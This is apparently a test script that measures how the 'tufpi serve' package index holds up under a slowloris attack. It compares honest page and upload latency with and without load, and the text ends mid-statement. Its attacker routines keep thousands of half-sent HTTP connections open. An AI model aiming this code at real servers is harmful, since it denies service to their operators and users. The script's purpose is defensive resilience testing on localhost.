"""Slow-client (slowloris) attack on `tufpi serve`, measured (issue 10, finding 1, "Must show").

Against a running index (started by scripts/attack-slowloris), in one run:

1. unloaded: honest simple-page GETs (each on a fresh connection, then back to back on one
   keep-alive connection): latency p50/p99; and uploads (twine's multipart POST /legacy/, one
   at a time): the time from each upload's 200 to the first read of /metadata/timestamp.json
   whose snapshot's bin lists the file's target path ("upload -> signed");
2. loaded: ATTACK attacker connections (default 20,000), each sending
   `GET / HTTP/1.1\\r\\nHost: x\\r\\n` and never finishing its head; a connection the server
   closes is opened again at once, so there are always ATTACK attempts. The attacker runs in
   its own processes (asyncio, or a bare epoll loop with --engine epoll; PROCS of them, each from its own source address 127.0.0.N so
   ephemeral ports never run short), never sharing an event loop with the honest client.
   Then the same honest measurements while the attack runs, plus: the publisher keeps
   publishing (snapshot version advances, /health ok), the server's log never says
   "Too many open files", the server's RSS, open descriptors and CPU, the attacker's CPU.

3. unloaded again, once the attack has stopped: the machine is shared, so the baseline is the
   mean of the unloaded figures before and after (both printed).

Prints a table: unloaded vs loaded p50/p99 and the ratio, and PASS/FAIL of "loaded p99 within
2x of unloaded" for the fresh-connection page, the keep-alive page and upload -> signed.

CPU placement (2+ CPUs, unless --no-pin): the wrapper pins the server to CPU 0; this script
puts the honest client on CPU 1 and the attacker on CPU 1 too at nice 19, so the attacker
takes only the CPU the honest client leaves (on the open internet it has its own machines).
Stdlib only (plus tests/index_e2e/e2e_util.py for the wheel and the multipart form).
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import errno
import gzip
import hashlib
import http.client
import json
import multiprocessing as mp
import os
import re
import resource
import select
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
sys.path.insert(0, str(ROOT / "tests" / "index_e2e"))
from e2e_util import build_wheel, multipart, upload_form  # noqa: E402

PROJECT = "slowloris-probe"
HEAD = b"GET / HTTP/1.1\r\nHost: x\r\n"  # never finished
IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)
CLK = os.sysconf("SC_CLK_TCK")

# Attacker counters (one row per attacker process, in shared memory).
C_ATTEMPTS, C_CONNECTED, C_OPEN, C_CLOSED, C_RESET, C_CONNFAIL, C_RESPONSES, C_READY = range(8)
NC = 8


def log(msg: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


def raise_nofile() -> int:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def pct(xs: list[float], p: float) -> float:
    if not xs:
        return float("nan")
    s = sorted(xs)
    k = min(len(s) - 1, max(0, int(round(p / 100.0 * len(s) + 0.5)) - 1))
    return s[k]


# ---------------------------------------------------------------------------------------------
# /proc readings


def proc_cpu_s(pid: int) -> float:
    """utime + stime of a process, seconds."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / CLK
    except OSError:
        return 0.0


def proc_status(pid: int, key: str) -> int:
    """A kB field of /proc/PID/status (VmRSS, VmHWM)."""
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(key + ":"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def proc_fds(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


def machine_cpu() -> tuple[float, float]:
    """(busy, total) jiffies of the whole machine."""
    with open("/proc/stat") as f:
        v = [int(x) for x in f.readline().split()[1:]]
    idle = v[3] + v[4]
    return sum(v) - idle, sum(v)


def loadavg() -> str:
    with open("/proc/loadavg") as f:
        return " ".join(f.read().split()[:3])


class CpuWindow:
    """CPU used by given processes and by the whole machine between start() and stop()."""

    def __init__(self, pids: dict[str, list[int]]) -> None:
        self.pids = pids

    def start(self) -> "CpuWindow":
        self.t0 = time.monotonic()
        self.c0 = {k: sum(proc_cpu_s(p) for p in ps) for k, ps in self.pids.items()}
        self.m0 = machine_cpu()
        return self

    def stop(self) -> dict:
        dt = time.monotonic() - self.t0
        out = {k: (sum(proc_cpu_s(p) for p in ps) - self.c0[k]) / dt for k, ps in self.pids.items()}
        b1, t1 = machine_cpu()
        ncpu = os.cpu_count() or 1
        out["machine_busy"] = (b1 - self.m0[0]) / max(1, t1 - self.m0[1]) * ncpu
        out["others"] = max(0.0, out["machine_busy"] - sum(v for k, v in out.items() if k != "machine_busy"))
        out["seconds"] = dt
        return out


# ---------------------------------------------------------------------------------------------
# The attacker (its own processes)


def attacker_main(idx: int, n: int, host: str, port: int, src: str, counters, stop, cpus: set[int] | None,
                  nice: int, engine: str) -> None:
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    if cpus is not None:
        os.sched_setaffinity(0, cpus)
    if nice:
        os.nice(nice)
    raise_nofile()
    if engine == "epoll":
        _attack_epoll(idx, n, host, port, src, counters, stop)
    else:
        asyncio.run(_attack(idx, n, host, port, src, counters, stop))


def _attack_epoll(idx: int, n: int, host: str, port: int, src: str, counters, stop) -> None:
    """The same attack as `_attack`, on a bare epoll loop: several times less CPU per
    connection than asyncio, so a stronger attacker on the same CPU."""
    c = [0] * NC
    base = idx * NC
    ep = select.epoll()
    socks: dict[int, list] = {}  # fd -> [socket, connected?]
    retry: list[tuple[float, int]] = []  # (when, backoff ms) for failed connects

    def publish() -> None:
        for i in range(NC):
            counters[base + i] = c[i]

    def open_one() -> bool:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        c[C_ATTEMPTS] += 1
        try:
            s.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            s.bind((src, 0))
            err = s.connect_ex((host, port))
        except OSError:
            err = -1
        if err not in (0, errno.EINPROGRESS):
            c[C_CONNFAIL] += 1
            s.close()
            return False
        socks[s.fileno()] = [s, False]
        ep.register(s.fileno(), select.EPOLLOUT)
        return True

    def drop(fd: int) -> None:
        s = socks.pop(fd)[0]
        ep.unregister(fd)
        s.close()

    c[C_READY] = 1
    started = time.monotonic()
    to_open = n
    last_pub = 0.0
    while not stop.is_set():
        now = time.monotonic()
        # Spread the first connects over ~1 s.
        want = min(n, int(n * (now - started + 0.05))) if to_open else 0
        while to_open and n - to_open < want:
            to_open -= 1
            if not open_one():
                retry.append((now + 0.05, 50))
        while retry and retry[0][0] <= now:
            _, b = retry.pop(0)
            if not open_one():
                retry.append((now + b / 1000, min(1000, b * 2)))
        for fd, ev in ep.poll(0.05, 4096):
            entry = socks.get(fd)
            if entry is None:
                continue
            s, connected = entry
            if not connected:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    c[C_CONNFAIL] += 1
                    drop(fd)
                    retry.append((time.monotonic() + 0.05, 50))
                    continue
                c[C_CONNECTED] += 1
                c[C_OPEN] += 1
                entry[1] = True
                try:
                    s.send(HEAD)
                    ep.modify(fd, select.EPOLLIN)
                    continue
                except OSError:
                    reset = True
            else:
                reset = False
                try:
                    if s.recv(4096):
                        c[C_RESPONSES] += 1
                        continue
                except OSError:
                    reset = True
            # Closed by the server: open another at once.
            c[C_OPEN] -= 1
            c[C_RESET if reset else C_CLOSED] += 1
            drop(fd)
            if not open_one():
                retry.append((time.monotonic() + 0.05, 50))
        if now - last_pub >= 0.1:
            publish()
            last_pub = now
    for fd in list(socks):
        drop(fd)
    publish()


async def _attack(idx: int, n: int, host: str, port: int, src: str, counters, stop) -> None:
    loop = asyncio.get_running_loop()
    c = [0] * NC
    base = idx * NC

    async def one(k: int) -> None:
        # Spread the first connects over ~1 s so the SYN queue is not hit all at once.
        await asyncio.sleep(k / n)
        backoff = 0.05
        while not stop.is_set():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                s.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
                s.bind((src, 0))
                c[C_ATTEMPTS] += 1
                await loop.sock_connect(s, (host, port))
            except OSError:
                c[C_CONNFAIL] += 1
                s.close()
                await asyncio.sleep(backoff)
                backoff = min(1.0, backoff * 2)
                continue
            backoff = 0.05
            c[C_CONNECTED] += 1
            c[C_OPEN] += 1
            reset = False
            try:
                await loop.sock_sendall(s, HEAD)
                while True:
                    d = await loop.sock_recv(s, 4096)
                    if not d:
                        break
                    c[C_RESPONSES] += 1  # e.g. a 408 for the unfinished head
            except OSError:
                reset = True
            c[C_OPEN] -= 1
            c[C_RESET if reset else C_CLOSED] += 1
            s.close()

    # Counters are published by a thread: a busy event loop (thousands of sockets ready at
    # once, little CPU at nice 19) can go a second or more between two of its own iterations.
    done = threading.Event()

    def report() -> None:
        while not done.is_set():
            for i in range(NC):
                counters[base + i] = c[i]
            done.wait(0.1)
        for i in range(NC):
            counters[base + i] = c[i]

    c[C_READY] = 1
    rep = threading.Thread(target=report, daemon=True)
    rep.start()
    tasks = [asyncio.create_task(one(k)) for k in range(n)]
    while not stop.is_set():
        await asyncio.sleep(0.1)
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    done.set()
    rep.join()


class Attack:
    def __init__(self, host: str, port: int, total: int, procs: int, cpus: set[int] | None, nice: int,
                 engine: str = "asyncio") -> None:
        self.procs_n = procs
        self.counters = mp.Array("q", procs * NC, lock=False)
        self.stop_evt = mp.Event()
        per = [total // procs + (1 if i < total % procs else 0) for i in range(procs)]
        ctx = mp.get_context("fork")
        self.procs = [
            ctx.Process(target=attacker_main, daemon=True,
                        args=(i, per[i], host, port, f"127.0.0.{2 + i}", self.counters, self.stop_evt, cpus, nice, engine))
            for i in range(procs)
        ]

    def start(self) -> None:
        for p in self.procs:
            p.start()

    @property
    def pids(self) -> list[int]:
        return [p.pid for p in self.procs if p.pid]

    def check(self) -> None:
        dead = [p.exitcode for p in self.procs if not p.is_alive()]
        if dead:
            raise SystemExit(f"attacker processes exited: {dead}")

    def totals(self) -> list[int]:
        return [sum(self.counters[i * NC + k] for i in range(self.procs_n)) for k in range(NC)]

    def stop(self) -> None:
        self.stop_evt.set()
        for p in self.procs:
            p.join(15)
            if p.is_alive():
                p.kill()
                p.join()


# ---------------------------------------------------------------------------------------------
# The honest client


class Http:
    """A keep-alive HTTP/1.1 connection from 127.0.0.1 that reconnects when the server closes it."""

    def __init__(self, host: str, port: int, timeout: float = 60.0) -> None:
        self.host, self.port, self.timeout = host, port, timeout
        self.c: http.client.HTTPConnection | None = None
        self.opened = 0

    def request(self, method: str, path: str, body: bytes | None = None,
                headers: dict | None = None) -> tuple[int, dict, bytes]:
        for attempt in range(3):
            if self.c is None:
                self.c = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout,
                                                    source_address=("127.0.0.1", 0))
                self.opened += 1
            try:
                self.c.request(method, path, body=body, headers=headers or {})
                r = self.c.getresponse()
                data = r.read()
                hdrs = {k.lower(): v for k, v in r.getheaders()}
                if hdrs.get("connection", "").lower() == "close":
                    self.close()
                if hdrs.get("content-encoding") == "gzip":
                    data = gzip.decompress(data)
                return r.status, hdrs, data
            except (http.client.RemoteDisconnected, ConnectionError, BrokenPipeError):
                # An idle keep-alive connection the server closed: once more on a new one.
                self.close()
                if attempt == 2:
                    raise
        raise AssertionError("unreachable")

    @property
    def reconnects(self) -> int:
        return max(0, self.opened - 1)

    def close(self) -> None:
        if self.c is not None:
            self.c.close()
            self.c = None


def get_fresh(host: str, port: int, path: str) -> tuple[int, float, int]:
    """One GET on a new connection: (status, seconds, failed attempts before it)."""
    t0 = time.perf_counter()
    fails = 0
    while True:
        c = http.client.HTTPConnection(host, port, timeout=60, source_address=("127.0.0.1", 0))
        try:
            c.request("GET", path)
            r = c.getresponse()
            r.read()
            return r.status, time.perf_counter() - t0, fails
        except (ConnectionError, http.client.RemoteDisconnected, socket.timeout):
            fails += 1
            if fails >= 5:
                return -1, time.perf_counter() - t0, fails
        finally:
            c.close()


def page_latencies(host: str, port: int, path: str, n: int, fresh: bool, budget: float = 1e9) -> dict:
    """n GETs (fewer if `budget` seconds run out first)."""
    lat: list[float] = []
    failed = errors = 0
    conn = None if fresh else Http(host, port)
    deadline = time.monotonic() + budget
    for _ in range(n):
        if time.monotonic() > deadline:
            break
        if fresh:
            status, dt, f = get_fresh(host, port, path)
            failed += f
        else:
            t0 = time.perf_counter()
            status, _, _ = conn.request("GET", path)
            dt = time.perf_counter() - t0
        if status != 200:
            errors += 1
        lat.append(dt * 1000)
    out = summary(lat)
    out.update(errors=errors, retried=failed, reconnects=conn.reconnects if conn else 0,
               truncated=len(lat) < n)
    if conn:
        conn.close()
    return out


def idle_keepalive(host: str, port: int, path: str, n: int, gap: float) -> dict:
    """GETs on one keep-alive connection with `gap` seconds of idleness before each, as an
    installer that pauses between requests: how often the server had closed it meanwhile."""
    conn = Http(host, port)
    conn.request("GET", path)
    lat = []
    for _ in range(n):
        time.sleep(gap)
        t0 = time.perf_counter()
        conn.request("GET", path)
        lat.append((time.perf_counter() - t0) * 1000)
    out = summary(lat)
    out["reconnects"] = conn.reconnects
    conn.close()
    return out


def summary(ms: list[float]) -> dict:
    return {"n": len(ms), "p50": pct(ms, 50), "p99": pct(ms, 99), "max": max(ms) if ms else float("nan"),
            "mean": statistics.fmean(ms) if ms else float("nan"), "over_1s": sum(1 for x in ms if x >= 1000)}


class Signer:
    """Finds when an uploaded target first appears in signed metadata."""

    def __init__(self, host: str, port: int) -> None:
        self.http = Http(host, port)
        st, _, body = self.http.request("GET", "/metadata/timestamp.json")
        assert st == 200, st
        sv = self.snapshot_version(body)
        snap = self.get(f"/metadata/{sv}.snapshot.json")
        meta = json.loads(snap)["signed"]["meta"]
        role = "bins" if "bins.json" in meta else "targets"
        doc = json.loads(self.get(f"/metadata/{meta[role + '.json']['version']}.{role}.json"))
        sr = doc["signed"]["delegations"]["succinct_roles"]
        self.bit_length = int(sr["bit_length"])
        self.prefix = sr["name_prefix"]
        self.width = len(f"{(1 << self.bit_length) - 1:x}")
        self.polls = 0

    def get(self, path: str) -> bytes:
        st, _, body = self.http.request("GET", path)
        if st != 200:
            raise RuntimeError(f"GET {path}: {st}")
        return body

    @staticmethod
    def snapshot_version(ts: bytes) -> int:
        return int(json.loads(ts)["signed"]["meta"]["snapshot.json"]["version"])

    def bin_of(self, target: str) -> str:
        h = int.from_bytes(hashlib.sha256(target.encode()).digest()[:4], "big")
        return f"{self.prefix}-{h >> (32 - self.bit_length):0{self.width}x}"

    def current_snapshot(self) -> int:
        return self.snapshot_version(self.get("/metadata/timestamp.json"))

    def wait_signed(self, target: str, t_ack: float, poll: float, timeout: float = 120.0) -> float:
        """Seconds from t_ack to the first timestamp.json read whose snapshot's bin lists target."""
        b = self.bin_of(target)
        pat = re.compile(rb'"' + re.escape(b.encode()) + rb'\.json"\s*:\s*\{[^}]*?"version"\s*:\s*(\d+)')
        seen: set[int] = set()
        while True:
            body = self.get("/metadata/timestamp.json")
            t_read = time.perf_counter()
            self.polls += 1
            sv = self.snapshot_version(body)
            if sv not in seen:
                seen.add(sv)
                m = pat.search(self.get(f"/metadata/{sv}.snapshot.json"))
                if m:
                    doc = json.loads(self.get(f"/metadata/{int(m.group(1))}.{b}.json"))
                    if target in doc["signed"]["targets"]:
                        return t_read - t_ack
            if t_read - t_ack > timeout:
                raise RuntimeError(f"{target} not signed within {timeout} s")
            time.sleep(poll)


def b2_target(filename: str, data: bytes) -> str:
    h = hashlib.blake2b(data, digest_size=32).hexdigest()
    return f"packages/{h[0:2]}/{h[2:4]}/{h[4:]}/{filename}"


def uploads(host: str, port: int, token: str, signer: Signer, versions: list[str], work: Path,
            poll: float) -> dict:
    auth = "Basic " + base64.b64encode(f"__token__:{token}".encode()).decode()
    post = Http(host, port)
    signed: list[float] = []
    upload_ms: list[float] = []
    sv0 = signer.current_snapshot()
    for v in versions:
        whl = build_wheel(work, PROJECT, v)
        data = whl.read_bytes()
        ctype, body = multipart(upload_form(PROJECT, v, whl.name, data), (whl.name, data))
        t0 = time.perf_counter()
        st, _, text = post.request("POST", "/legacy/", body=body,
                                   headers={"Content-Type": ctype, "Authorization": auth})
        t_ack = time.perf_counter()
        if st != 200:
            raise RuntimeError(f"upload {whl.name}: {st} {text[:200]!r}")
        upload_ms.append((t_ack - t0) * 1000)
        signed.append(signer.wait_signed(b2_target(whl.name, data), t_ack, poll) * 1000)
    post.close()
    out = summary(signed)
    out["upload"] = summary(upload_ms)
    out["snapshots"] = (sv0, signer.current_snapshot())
    return out


def health(host: str, port: int) -> tuple[int, dict, float]:
    t0 = time.perf_counter()
    c = Http(host, port)
    try:
        st, _, body = c.request("GET", "/health")
        return st, json.loads(body), (time.perf_counter() - t0) * 1000
    finally:
        c.close()


def server_log_errors(path: Path) -> list[str]:
    try:
        text = path.read_text(errors="replace")
    except OSError:
        return []
    return [ln for ln in text.splitlines() if "Too many open files" in ln or "accept error" in ln]


def server_log_count(path: Path, needle: str) -> int:
    try:
        return path.read_text(errors="replace").count(needle)
    except OSError:
        return 0


# ---------------------------------------------------------------------------------------------


def measure(host: str, port: int, token: str, a, signer: Signer, work: Path, tag: str, versions: list[str],
            cpu_pids: dict[str, list[int]], server_pid: int) -> dict:
    page = f"/simple/{PROJECT}/"
    r: dict = {}
    w = CpuWindow(cpu_pids).start()
    st, h, hms = health(host, port)
    r["health_before"] = (st, h.get("status"), h.get("publisher", {}).get("state"), hms)
    log(f"{tag}: {a.requests} page GETs on fresh connections")
    r["fresh"] = page_latencies(host, port, page, a.requests, fresh=True, budget=a.phase_budget)
    log(f"{tag}: {a.requests} page GETs on one keep-alive connection")
    r["keepalive"] = page_latencies(host, port, page, a.requests, fresh=False, budget=a.phase_budget)
    if a.idle_probes:
        log(f"{tag}: {a.idle_probes} GETs on one keep-alive connection idle {a.idle_gap:g} s before each")
        r["idle"] = idle_keepalive(host, port, page, a.idle_probes, a.idle_gap)
    log(f"{tag}: {len(versions)} uploads, each until signed")
    r["signed"] = uploads(host, port, token, signer, versions, work, a.poll_ms / 1000)
    st, h, hms = health(host, port)
    r["health_after"] = (st, h.get("status"), h.get("publisher", {}).get("state"), hms)
    r["pending_after"] = h.get("pending_changes")
    r["cpu"] = w.stop()
    r["rss_kb"] = proc_status(server_pid, "VmRSS")
    r["fds"] = proc_fds(server_pid)
    return r


def listen_queue(port: int) -> tuple[int, int] | None:
    """(connections waiting to be accepted, backlog) of the listening socket, from `ss`."""
    try:
        out = subprocess.run(["ss", "-Hltn", f"sport = :{port}"], capture_output=True, text=True, timeout=10).stdout
        f = out.split()
        return int(f[1]), int(f[2])
    except (OSError, ValueError, IndexError, subprocess.SubprocessError):
        return None


def tcp_ext() -> dict[str, int]:
    """TcpExt counters of /proc/net/netstat (listen-queue overflows and drops, SYN cookies)."""
    out: dict[str, int] = {}
    try:
        lines = Path("/proc/net/netstat").read_text().splitlines()
    except OSError:
        return out
    for names, values in zip(lines[::2], lines[1::2]):
        if names.startswith("TcpExt:"):
            out.update(zip(names.split()[1:], (int(v) for v in values.split()[1:])))
    return out


def parse_cpus(text: str) -> set[int] | None:
    return None if text == "all" else {int(x) for x in text.split(",")}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--url", required=True, help="the index, http://127.0.0.1:PORT")
    ap.add_argument("--token", required=True)
    ap.add_argument("--server-pid", type=int, required=True)
    ap.add_argument("--server-log", type=Path, required=True, help="the server's stdout+stderr")
    ap.add_argument("--attack", type=int, default=20000, help="attacker connections (attempts kept up)")
    ap.add_argument("--attack-procs", type=int, default=4, help="attacker processes (one source address each)")
    ap.add_argument("--requests", type=int, default=2000, help="honest page GETs per kind and phase")
    ap.add_argument("--uploads", type=int, default=20, help="uploads per phase")
    ap.add_argument("--poll-ms", type=float, default=5.0, help="timestamp.json poll interval while waiting for signing")
    ap.add_argument("--phase-budget", type=float, default=120.0,
                    help="seconds at most for each kind of page GETs per phase (fewer requests if exceeded)")
    ap.add_argument("--idle-probes", type=int, default=10,
                    help="GETs on a keep-alive connection left idle --idle-gap s before each (0: none)")
    ap.add_argument("--idle-gap", type=float, default=1.0)
    ap.add_argument("--ramp", type=float, default=20.0, help="seconds to let the attack build up before measuring")
    ap.add_argument("--no-pin", action="store_true", help="no CPU pinning or nice for client and attacker")
    ap.add_argument("--client-cpu", type=int, default=1)
    ap.add_argument("--attacker-cpus", default="1", help="CPUs for the attacker: a list (0,1) or 'all'")
    ap.add_argument("--attacker-nice", type=int, default=19)
    ap.add_argument("--engine", choices=("asyncio", "epoll"), default="asyncio",
                    help="attacker loop: asyncio, or a bare epoll loop (more connections per CPU second)")
    ap.add_argument("--json", type=Path, help="write the figures here too")
    a = ap.parse_args()

    u = urllib.parse.urlsplit(a.url)
    host, port = u.hostname, u.port
    nofile = raise_nofile()
    pin = not a.no_pin and (os.cpu_count() or 1) >= 2
    if pin:
        os.sched_setaffinity(0, {a.client_cpu})
    att_cpus = parse_cpus(a.attacker_cpus) if pin else None
    att_nice = a.attacker_nice if pin else 0
    wheels = tempfile.TemporaryDirectory(prefix="slowloris-wheels-")
    work = Path(wheels.name)
    log(f"load average before: {loadavg()}; open-file limit {nofile}; pinning {'on' if pin else 'off'}")

    for _ in range(100):
        try:
            health(host, port)
            break
        except OSError:
            time.sleep(0.1)
    else:
        raise SystemExit("server not answering")
    signer = Signer(host, port)
    log("seeding the project")
    uploads(host, port, a.token, signer, ["0.0.1"], work, a.poll_ms / 1000)
    # Warm-up (not measured).
    page_latencies(host, port, f"/simple/{PROJECT}/", 200, fresh=True)
    page_latencies(host, port, f"/simple/{PROJECT}/", 200, fresh=False)

    me = os.getpid()
    load0 = loadavg()
    srv = a.server_pid
    before = measure(host, port, a.token, a, signer, work, "unloaded (before)",
                     [f"1.0.{i}" for i in range(a.uploads)], {"server": [srv], "client": [me]}, srv)

    log(f"starting {a.attack} attacker connections in {a.attack_procs} processes")
    attack = Attack(host, port, a.attack, a.attack_procs, att_cpus, att_nice, a.engine)
    attack.start()
    ramp_w = CpuWindow({"server": [srv], "attacker": attack.pids}).start()
    t_end = time.monotonic() + a.ramp
    while time.monotonic() < t_end:
        time.sleep(2)
        attack.check()
        t = attack.totals()
        log(f"  ramp: attempts {t[C_ATTEMPTS]}, connecting {t[C_ATTEMPTS] - t[C_CONNECTED] - t[C_CONNFAIL]}, "
            f"open {t[C_OPEN]}, closed by server {t[C_CLOSED]}, reset {t[C_RESET]}, connect failures "
            f"{t[C_CONNFAIL]}; server fds {proc_fds(srv)}, RSS {proc_status(srv, 'VmRSS') // 1024} MiB, "
            f"listen queue {listen_queue(port)}")
    ramp_cpu = ramp_w.stop()
    t0 = attack.totals()
    x0 = tcp_ext()
    tm0 = time.monotonic()
    sv_start = signer.current_snapshot()
    lq = listen_queue(port)
    loaded = measure(host, port, a.token, a, signer, work, "loaded",
                     [f"2.0.{i}" for i in range(a.uploads)],
                     {"server": [srv], "client": [me], "attacker": attack.pids}, srv)
    t1 = attack.totals()
    attack.check()
    x1 = tcp_ext()
    tm1 = time.monotonic()
    sv_end = signer.current_snapshot()
    st, h, hms = health(host, port)
    loaded["health_end"] = (st, h.get("status"), h.get("publisher", {}).get("state"), hms,
                            h.get("publisher", {}).get("last_error"))
    attack.stop()
    t2 = attack.totals()
    peak_rss = proc_status(srv, "VmHWM")
    # The server lets go of the attacker's connections as they close.
    time.sleep(2)
    after = measure(host, port, a.token, a, signer, work, "unloaded (after)",
                    [f"3.0.{i}" for i in range(a.uploads)], {"server": [srv], "client": [me]}, srv)
    log_errors = server_log_errors(a.server_log)
    load1 = loadavg()
    wheels.cleanup()

    # -----------------------------------------------------------------------------------------
    def ratio(x: float, y: float) -> float:
        return x / y if y > 0 else float("inf")

    keys = (("fresh", "page GET, fresh connection"), ("keepalive", "page GET, keep-alive"),
            ("signed", "upload -> signed"))
    print()
    print(f"slow-client attack on tufpi serve: {a.attack} attacker connections ({a.attack_procs} {a.engine} "
          f"processes), "
          f"{a.requests} page GETs per kind, {a.uploads} uploads per phase")
    print(f"load average: {load0} before, {load1} after; CPUs {os.cpu_count()}; pinning "
          + (f"server CPU 0, honest client CPU {a.client_cpu}, attacker CPUs {a.attacker_cpus} at nice "
             f"{att_nice}" if pin else "off"))
    print("baseline = mean of the unloaded figures measured before and after the attack")
    print()
    print(f"{'ms, p50 / p99':30}{'unloaded before':>18}{'loaded':>18}{'unloaded after':>18}"
          f"{'loaded/baseline':>18}   p99 within 2x")
    verdicts = []
    for key, label in keys:
        b, l0, af = before[key], loaded[key], after[key]
        base50, base99 = (b["p50"] + af["p50"]) / 2, (b["p99"] + af["p99"]) / 2
        r50, r99 = ratio(l0["p50"], base50), ratio(l0["p99"], base99)
        ok = r99 <= 2.0
        verdicts.append((label, ok))
        print(f"{label:30}" + "".join(f"{d['p50']:>8.2f} /{d['p99']:>8.2f}" for d in (b, l0, af))
              + f"{r50:>8.2f} /{r99:>8.2f}   {'PASS' if ok else 'FAIL'}")
    up = [d["signed"]["upload"] for d in (before, loaded, after)]
    print(f"{'  (the upload request itself)':30}" + "".join(f"{d['p50']:>8.2f} /{d['p99']:>8.2f}" for d in up))
    maxes = ["/".join(f"{d[k]['max']:.0f}" for k in ("fresh", "keepalive", "signed"))
             for d in (before, loaded, after)]
    print(f"{'  (max: fresh/keep-alive/signed)':30}" + "".join(f"{m:>18}" for m in maxes))
    if a.idle_probes:
        print(f"keep-alive connection idle {a.idle_gap:g} s between GETs: closed by the server meanwhile "
              + " / ".join(f"{d['idle']['reconnects']}" for d in (before, loaded, after))
              + f" of {a.idle_probes} times (before / loaded / after); GET p50 "
              + " / ".join(f"{d['idle']['p50']:.2f}" for d in (before, loaded, after)) + " ms")
    print("page GETs made (fresh / keep-alive), and of them >= 1 s (a SYN the full listen queue dropped, "
          "retransmitted 1 s later): " + "; ".join(
              f"{name} {d['fresh']['n']} / {d['keepalive']['n']}, >= 1 s {d['fresh']['over_1s']} / "
              f"{d['keepalive']['over_1s']}" for name, d in (("before", before), ("loaded", loaded), ("after", after))))
    print(f"honest errors under attack: {loaded['fresh']['errors']} non-200, {loaded['fresh']['retried']} fresh "
          f"connections dropped and retried, {loaded['keepalive']['reconnects']} keep-alive reconnects "
          f"(unloaded: {before['fresh']['errors'] + after['fresh']['errors']}, "
          f"{before['fresh']['retried'] + after['fresh']['retried']}, "
          f"{before['keepalive']['reconnects'] + after['keepalive']['reconnects']})")
    print()
    dt = tm1 - tm0
    conn_n = t1[C_CONNECTED] - t0[C_CONNECTED]
    print(f"attacker: {a.attack} attempts kept up; during the loaded measurement ({dt:.1f} s): "
          f"open {t0[C_OPEN]} -> {t1[C_OPEN]}, connecting {t0[C_ATTEMPTS] - t0[C_CONNECTED] - t0[C_CONNFAIL]} -> "
          f"{t1[C_ATTEMPTS] - t1[C_CONNECTED] - t1[C_CONNFAIL]}, new connections {conn_n} ({conn_n / dt:.0f}/s), "
          f"closed by server {t1[C_CLOSED] - t0[C_CLOSED]}, reset {t1[C_RESET] - t0[C_RESET]}, "
          f"connect failures {t1[C_CONNFAIL] - t0[C_CONNFAIL]}, reads with data {t1[C_RESPONSES] - t0[C_RESPONSES]}")
    print(f"          whole attack: attempts {t2[C_ATTEMPTS]}, connected {t2[C_CONNECTED]}, closed by server "
          f"{t2[C_CLOSED]}, reset {t2[C_RESET]}, connect failures {t2[C_CONNFAIL]}")
    print("kernel during the loaded measurement: " + ", ".join(
        f"{k} +{x1.get(k, 0) - x0.get(k, 0)}" for k in ("ListenOverflows", "ListenDrops", "SyncookiesSent",
                                                        "TCPReqQFullDrop", "TCPReqQFullDoCookies")))
    if lq:
        print(f"listen queue when the loaded measurement began: {lq[0]} waiting of a backlog of {lq[1]}")
    print(f"server: fds {before['fds']} / {loaded['fds']} / {after['fds']} (before / loaded / after); RSS "
          f"{before['rss_kb'] / 1024:.0f} / {loaded['rss_kb'] / 1024:.0f} / {after['rss_kb'] / 1024:.0f} MiB, "
          f"peak {peak_rss / 1024:.0f} MiB")
    cb, cl, ca = before["cpu"], loaded["cpu"], after["cpu"]
    print("CPU, cores busy:  " + "; ".join(
        f"{name}: server {c['server']:.2f}, client {c['client']:.2f}"
        + (f", attacker {c['attacker']:.2f}" if "attacker" in c else "")
        + f", others {c['others']:.2f}, machine {c['machine_busy']:.2f}"
        for name, c in (("before", cb), ("loaded", cl), ("after", ca))))
    print(f"                  ramp-up: server {ramp_cpu['server']:.2f}, attacker {ramp_cpu['attacker']:.2f}, "
          f"machine {ramp_cpu['machine_busy']:.2f}")
    print()
    he = loaded["health_end"]
    pub_ok = sv_end > sv_start and loaded["signed"]["n"] == a.uploads and he[0] == 200 and he[1] == "ok"
    print(f"publisher under attack: snapshot v{sv_start} -> v{sv_end}, {loaded['signed']['n']}/{a.uploads} "
          f"uploads signed; /health {he[0]} {he[1]} (publisher {he[2]}, {he[3]:.0f} ms, last error {he[4]}); "
          f"after: /health {after['health_after'][0]} {after['health_after'][1]}, pending "
          f"{after['pending_after']}: {'PASS' if pub_ok else 'FAIL'}")
    print(f"server log, 'Too many open files' / 'accept error' lines: {len(log_errors)}: "
          f"{'PASS' if not log_errors else 'FAIL'}")
    for ln in log_errors[:3]:
        print("   ", ln)
    refused = server_log_count(a.server_log, "every connection is busy")
    if refused:
        print(f"server log, 'every connection is busy' warnings: {refused}")
    all_ok = all(ok for _, ok in verdicts) and pub_ok and not log_errors
    print()
    print(f"RESULT: {'PASS' if all_ok else 'FAIL'} (honest page p99 and upload -> signed p99 within 2x of "
